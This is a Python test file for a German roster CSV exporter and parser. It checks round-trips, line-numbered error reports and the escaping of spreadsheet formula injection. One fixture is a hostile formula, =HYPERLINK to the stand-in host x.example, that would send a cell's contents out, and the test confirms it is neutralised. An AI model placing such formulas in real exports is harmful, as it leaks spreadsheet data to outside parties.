from rakbot.services.roster_csv import HEADERS, Row, parse, render
from storage.models import Role

HEADER = ";".join(HEADERS)


def test_round_trip_keeps_every_field() -> None:
    rows = [
        Row(2, "Jana „JJ“; Jobcenter", Role.REPRESENTATIVE, "Jobcenter Börde", True,
            "03904 123456", "jana@example.de", 4711, True),
        Row(3, "Gast Ohne", Role.GUEST, None, False, None, None, None, False),
    ]  # fmt: skip
    parsed, errors = parse(render(rows))
    assert errors == []
    assert parsed == rows


def test_formulas_never_reach_the_spreadsheet_and_excel_reads_utf8() -> None:
    hostile = '=HYPERLINK("http://x.example/?a="&A2;"Jana")'
    rows = [
        Row(2, hostile, Role.GUEST, None, False, "+49 3904 7240-0", None, None, True),
        Row(3, "@Börde", Role.GUEST, None, False, None, None, None, True),
    ]  # fmt: skip
    text = render(rows)
    assert text.startswith("\ufeff")
    lines = text.removeprefix("\ufeff").splitlines()
    assert all(
        not cell.startswith(("=", "+", "-", "@")) for line in lines[1:] for cell in line.split(";")
    )
    assert "'+49 3904 7240-0" in lines[1] and lines[2].startswith("'@Börde")
    parsed, errors = parse(text)
    assert errors == [] and parsed == rows


def test_bad_rows_are_reported_with_line_numbers() -> None:
    text = "\n".join(
        [
            HEADER,
            "Anna;Vertretung;Jobcenter Börde;nein;;;1;ja",
            "Bernd;Chef;Jobcenter Börde;nein;;;;ja",
            "Carla;Stellvertretung;;nein;;;;ja",
            "Dora;Gast;;vielleicht;;;;ja",
            "Emil;Gast;;nein;;keine-mail;;ja",
            "Fritz;Gast;;nein;;;1;ja",
            "zu;wenig",
        ]
    )
    rows, errors = parse(text)
    assert [row.name for row in rows] == ["Anna"]
    assert [error.line for error in errors] == [3, 4, 5, 6, 7, 8]
    assert "Rolle" in errors[0].message and "doppelt" in errors[4].message


def test_wrong_header() -> None:
    rows, errors = parse("Name,Rolle\nx,y")
    assert rows == [] and errors[0].line == 1
